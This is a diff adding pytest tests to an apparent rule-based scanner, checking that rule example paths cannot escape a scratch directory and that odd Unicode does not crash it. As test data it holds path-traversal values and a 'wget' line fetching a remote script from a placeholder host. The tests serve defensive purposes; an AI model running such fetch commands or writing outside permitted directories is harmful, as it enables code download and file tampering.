@@ -2,6 +2,7 @@
 plus how user rule packs fail: schema errors name the key, slow regexes are bounded."""
 from __future__ import annotations
 
+import os
 
 import pytest
 
@@ -270,3 +271,24 @@ def test_catastrophic_regex_text_report(workdir):
     # the notice points at the start of the text the rule could not finish (the whole file here)
     assert "notes.txt:1: error: ACME02: regex timed out" in proc.stdout, proc.stdout + proc.stderr
     assert proc.stdout.count("ACME02") == 1  # once per rule and file
+
+
+@pytest.mark.parametrize("bad", ["/tmp/vg-escape.sh", "../../vg-escape.sh", "ok/../../vg-escape.sh", "C:/x.sh"])
+def test_example_path_cannot_leave_the_scratch_directory(workdir, bad):
+    """`rules test` writes each example to its `path`: a user's rule file must not make it
+    write anywhere else on disk."""
+    text = GOOD_RULE.replace("        - wget https://x.example/i.sh\n",
+                             f"        - {{text: 'wget https://x.example/i.sh', path: '{bad}'}}\n")
+    write(workdir / "acme-rules" / "acme.yaml", text)
+    proc = run_cli("rules", "test", "acme-rules", cwd=workdir)
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr
+    line = next(i for i, l in enumerate(text.splitlines(), 1) if bad in l)
+    assert f"acme.yaml:{line}: ACME01: example path '{bad}' must be a relative path" in proc.stderr
+    assert not os.path.exists("/tmp/vg-escape.sh")
+
+
+def test_example_text_with_a_lone_surrogate_is_written_not_a_traceback(workdir):
+    text = GOOD_RULE.replace("        - wget https://x.example/i.sh\n", '        - "wget https://x.example/\\ud800"\n')
+    write(workdir / "acme-rules" / "acme.yaml", text)
+    proc = run_cli("rules", "test", "acme-rules", cwd=workdir)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
